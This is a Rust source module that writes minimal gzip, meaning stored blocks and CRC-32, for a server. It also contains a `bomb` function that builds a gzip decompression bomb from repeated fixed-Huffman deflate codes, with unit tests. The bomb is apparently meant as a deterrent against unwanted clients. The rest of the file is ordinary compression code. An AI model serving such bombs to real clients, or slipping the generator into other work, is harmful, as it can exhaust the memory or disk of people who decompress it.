//! As much of gzip (RFC 1952) as a server needs that must not bring a
//! dependency: stored blocks.

/// Wraps `data` in gzip without compressing it.
pub(super) fn stored(data: &[u8]) -> Vec<u8> {
    let mut out = HEADER.to_vec();
    let mut blocks = data.chunks(usize::from(u16::MAX)).peekable();
    if blocks.peek().is_none() {
        push_block(&mut out, &[], true);
    }
    while let Some(block) = blocks.next() {
        push_block(&mut out, block, blocks.peek().is_none());
    }
    out.extend(crc32(data).to_le_bytes());
    out.extend((data.len() as u32).to_le_bytes());
    out
}

/// Gzip that unpacks to at least `decoded` spaces, about 160 times its size,
/// and then breaks off.
pub(super) fn bomb(decoded: u64) -> Vec<u8> {
    // RFC 1951 §3.2.6, fixed codes: the last block, a literal space, then "258 more
    // of the same" for ever.
    let mut bits: Vec<u8> = [1, 1, 0].to_vec();
    bits.extend(SPACE);
    while bits.len() < 8 * (LEAD + PERIOD) {
        bits.extend(SAME_258);
    }
    let bytes: Vec<u8> =
        bits.chunks_exact(8).map(|byte| byte.iter().rev().fold(0, |all, bit| all << 1 | bit)).collect();
    let (lead, rest) = bytes.split_at(LEAD);
    let periods = (decoded / (8 * 258) + 2) as usize;
    let mut out = HEADER.to_vec();
    out.extend(lead);
    out.extend(rest.iter().take(PERIOD).cycle().take(periods * PERIOD));
    out
}

fn push_block(out: &mut Vec<u8>, block: &[u8], last: bool) {
    let length = block.len() as u16;
    out.push(u8::from(last));
    out.extend(length.to_le_bytes());
    out.extend((!length).to_le_bytes());
    out.extend(block);
}

fn crc32(data: &[u8]) -> u32 {
    !data.iter().fold(!0, |crc, byte| TABLE[usize::from(crc as u8 ^ byte)] ^ (crc >> 8))
}

const fn table() -> [u32; 256] {
    let mut table = [0; 256];
    let mut index = 0;
    while index < 256 {
        let (mut crc, mut bit) = (index as u32, 0);
        while bit < 8 {
            crc = if crc & 1 == 1 { 0xEDB8_8320 ^ (crc >> 1) } else { crc >> 1 };
            bit += 1;
        }
        table[index] = crc;
        index += 1;
    }
    table
}

static TABLE: [u32; 256] = table();

/// Deflate, no flags, no time, unknown system.
const HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];

/// The fixed code of a space, and of length 258 at distance 1.
const SPACE: [u8; 8] = [0, 1, 0, 1, 0, 0, 0, 0];
const SAME_258: [u8; 13] = [1, 1, 0, 0, 0, 1, 0, 1, 0, 0, 0, 0, 0];

/// Eight repeats of 13 bits fill 13 bytes; they start somewhere in the second
/// byte.
const PERIOD: usize = 13;
const LEAD: usize = 2;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn checksums_match_the_published_check_values() {
        // The check value of CRC-32/ISO-HDLC, and a sentence that is often quoted with
        // its sum.
        assert_eq!(crc32(b"123456789"), 0xCBF4_3926);
        assert_eq!(crc32(b"The quick brown fox jumps over the lazy dog"), 0x414F_A339);
        assert_eq!(crc32(b""), 0);
    }

    #[test]
    fn stored_blocks_carry_the_bytes_as_they_are() {
        let packed = stored(b"hello");
        assert_eq!(packed[10..20], [1, 5, 0, 0xfa, 0xff, b'h', b'e', b'l', b'l', b'o']);
        assert_eq!(packed[24..], [5, 0, 0, 0]);
        assert_eq!(stored(b"")[10..15], [1, 0, 0, 0xff, 0xff]);
        let long = stored(&[b'x'; 70_000]);
        assert_eq!((long.len(), long[10], long[10 + 5 + 65_535]), (10 + 5 + 65_535 + 5 + 4_465 + 8, 0, 1));
    }

    #[test]
    fn a_bomb_is_small() {
        let packed = bomb(100 << 20);
        assert!(packed.len() < (100 << 20) / 150, "{}", packed.len());
    }
}
